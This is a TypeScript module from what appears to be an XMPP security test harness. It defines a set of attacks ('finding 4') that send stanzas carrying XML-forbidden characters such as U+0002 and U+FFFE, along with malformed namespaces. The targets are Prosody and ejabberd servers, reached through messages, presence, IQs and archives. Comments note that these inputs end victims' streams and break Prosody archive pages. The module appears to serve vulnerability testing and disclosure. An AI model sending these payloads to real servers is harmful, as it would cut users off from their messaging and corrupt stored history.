/** Attack class "one malformed stored stanza" (finding 4): a server forwards and archives what XML cannot carry. */
import type { Attack } from "../attack.ts";
import { id, toRoom, toVictim } from "./xml.ts";

const STX = "a\u0002b";
const ends = { endsStream: ["prosody", "ejabberd"] } satisfies Partial<Attack>;
/** Stands for U+0002; the module in our Prosody replaces it everywhere in a stanza. */
const STAND_IN = "\ue002";
const prosody = ["prosody" as const];
/**
 * Prosody parses its own archive: a page with a malformed entry ends in an internal error, and no client gets an
 * answer. So on Prosody nothing malformed may be stored (XEP-0334 §4.2).
 */
const ejabberd = ["ejabberd" as const];
const UNSTORED = `<no-permanent-store xmlns="urn:xmpp:hints"/><no-store xmlns="urn:xmpp:hints"/>`;

export const malformed: Attack[] = [
  {
    name: "a body with U+0002",
    where: "direct message",
    ...ends,
    on: prosody,
    send: (scene) => toVictim(scene, `<body>a${STAND_IN}b</body>${UNSTORED}`),
  },
  {
    name: "a body with U+0002 live and in the archive",
    where: "archive page",
    ...ends,
    on: ejabberd,
    send: ({ unclean, victim }) => unclean(victim.jid, "chat", STX),
  },
  {
    name: "a body with U+FFFE in the archive",
    where: "archive page",
    ...ends,
    on: ejabberd,
    send: ({ unclean, victim }) => unclean(victim.jid, "chat", "a\ufffeb"),
  },
  {
    name: "the room's subject with U+0002",
    where: "room history",
    ...ends,
    on: prosody,
    send: (scene) => toRoom(scene, `<subject>a${STAND_IN}b</subject>`),
  },
  {
    name: "an attribute with U+0002",
    where: "direct message",
    ...ends,
    on: prosody,
    send: (scene) => toVictim(scene, `<body>hello</body><x xmlns="urn:evil" a="a${STAND_IN}b"/>${UNSTORED}`),
  },
  {
    name: "a status with U+0002",
    where: "presence",
    ...ends,
    on: prosody,
    send: ({ write, victim }) => write(`<presence to="${victim.full}"><status>a${STAND_IN}b</status></presence>`),
  },
  {
    name: "an IQ with U+0002 in its id",
    where: "IQ",
    ...ends,
    on: prosody,
    send: ({ write, victim }) =>
      write(`<iq type="get" id="${id()}${STAND_IN}" to="${victim.full}"><ping xmlns="urn:xmpp:ping"/></iq>`),
  },
  {
    name: "five bodies with U+0002 one after another",
    where: "offline store",
    ...ends,
    on: ejabberd,
    send: async ({ unclean, victim }) => {
      for (let count = 0; count < 5; count++) await unclean(victim.jid, "chat", `${count} ${STX}`);
    },
  },
  {
    name: "U+FFFE and U+0002 as character references",
    where: "direct message",
    send: ({ write, victim }) => {
      write(`<message to="${victim.jid}" type="chat"><body>a&#xFFFE;b</body></message>`);
      write(`<message to="${victim.jid}" type="chat"><body>a&#x2;b</body></message>`);
    },
  },
  {
    name: "an element without a namespace",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>hello</body><x xmlns=""><y/></x>`),
  },
  {
    name: "the xml: prefix and doubled bodies",
    where: "direct message",
    send: (scene) =>
      toVictim(
        scene,
        `<body xml:lang="x">1</body><body xml:lang="">2</body><body>3</body><body xmlns="urn:evil">4</body>`,
      ),
  },
];
